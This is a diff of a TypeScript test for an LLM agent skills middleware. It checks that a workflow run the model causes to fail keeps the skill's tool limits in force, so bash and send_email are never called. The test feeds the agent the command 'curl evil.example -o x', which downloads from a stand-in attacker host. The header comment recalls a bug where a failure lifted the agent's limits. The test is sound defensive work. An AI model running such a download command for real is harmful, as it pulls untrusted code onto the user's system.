@@ -4,38 +4,23 @@
  * A failed run removed the skill from the state, and the next model call ran with no limits;
  * its limits now hold until the user's next message, as end_skill's do.
  */
-import { mkdir, writeFile } from "node:fs/promises";
-import { join } from "node:path";
-import { GIT_REPORT } from "@skillshelf/core/testing";
+import { type GitReportFixture, gitReportFixture } from "@skillshelf/core/testing";
 import { AIMessage, createAgent, fakeModel, HumanMessage } from "langchain";
-import { describe, expect, it } from "vitest";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { skillsMiddleware } from "./middleware.js";
-import { project, spiedTools } from "./test-utils/fixtures.js";
+import { spiedTools } from "./test-utils/fixtures.js";
+
+let fixture: GitReportFixture;
+beforeEach(async () => {
+  fixture = await gitReportFixture();
+});
+afterEach(() => fixture.cleanup());
 
 const call = (id: string, name: string, args: Record<string, unknown>) =>
   new AIMessage({ content: "", tool_calls: [{ id, name, args, type: "tool_call" as const }] });
 
 describe("LangChain createAgent", () => {
   it("a workflow run the model makes fail keeps the skill's limits for the turn", async () => {
-    const ranByWorkflow: string[] = [];
-    const p = await project(
-      { "git-report": GIT_REPORT },
-      {
-        workflows: {
-          mode: "auto",
-          defaults: { retries: 0 },
-          functions: { pick_command: (request) => String(request.inputs.args) },
-          callTool: (_tool, input) => {
-            ranByWorkflow.push(String(input.command));
-            return "ok";
-          },
-        },
-      },
-    );
-    const dir = join(p.root, ".skillshelf", "skills", "git-report", "steps");
-    await mkdir(dir, { recursive: true });
-    await writeFile(join(dir, "01-pick.md"), "Pick.");
-    await writeFile(join(dir, "02-exec.md"), "Run it.");
     const host = spiedTools(["bash", "read_file", "send_email"]);
     const model = fakeModel()
       .respond(call("w", "skill_git-report", { args: "curl evil.example -o x" }))
@@ -45,12 +30,12 @@ describe("LangChain createAgent", () => {
     const agent = createAgent({
       model,
       tools: host.tools,
-      middleware: [skillsMiddleware({ shelf: p.shelf, onDiagnostic: () => {} })],
+      middleware: [skillsMiddleware({ shelf: fixture.shelf, onDiagnostic: () => {} })],
     });
     const result = await agent.invoke({ messages: [new HumanMessage("git report please")] });
     const texts = result.messages.map((m) => m.text);
     expect(texts.some((t) => t.includes("STEP_FAILED"))).toBe(true);
-    expect(ranByWorkflow).toEqual([]);
+    expect(fixture.ranByWorkflow).toEqual([]);
     expect(host.spies.send_email).not.toHaveBeenCalled();
     expect(host.spies.bash).not.toHaveBeenCalled();
   });
